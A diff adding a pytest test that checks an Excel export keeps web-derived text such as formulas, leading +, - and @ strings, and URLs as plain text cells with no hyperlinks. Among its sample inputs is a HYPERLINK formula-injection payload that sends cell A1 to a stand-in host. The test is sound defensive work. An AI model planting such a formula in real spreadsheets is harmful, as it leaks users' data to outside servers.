@@ -47,3 +47,16 @@ def test_long_table_names_get_unique_sheet_names_cut_at_words(tmp_path):
     # The "about" sheet gives each shortened sheet its full table name.
     about = [[cell.value for cell in row] for row in workbook["about"].iter_rows()]
     assert [row[2] for row in about if row[0] in sheets[:2]] == names[:2]
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path):
+    """Passages from the web are hostile; a sheet cell holds them as text, never as a formula."""
+    hostile = ['=HYPERLINK("http://example.com/?q="&A1,"Bấm vào đây")', "=1+1 là hai", "- Quán triệt nghị quyết",
+               "+84 123", "@SUM(A1)", "http://example.com"]
+    path = write_workbook({"theme_evidence": pd.DataFrame({"passage": hostile, "hits": [-5, 1, 2, 3, 4, 5]})},
+                          tmp_path / "tables.xlsx", "en")
+    sheet = openpyxl.load_workbook(path)["theme_evidence"]
+    cells = [sheet.cell(row, 1) for row in range(2, 2 + len(hostile))]
+    assert [c.value for c in cells] == hostile and {c.data_type for c in cells} == {"s"}
+    assert sheet.cell(2, 2).value == -5 and sheet.cell(2, 2).data_type == "n"
+    assert not any(c.hyperlink for c in cells)
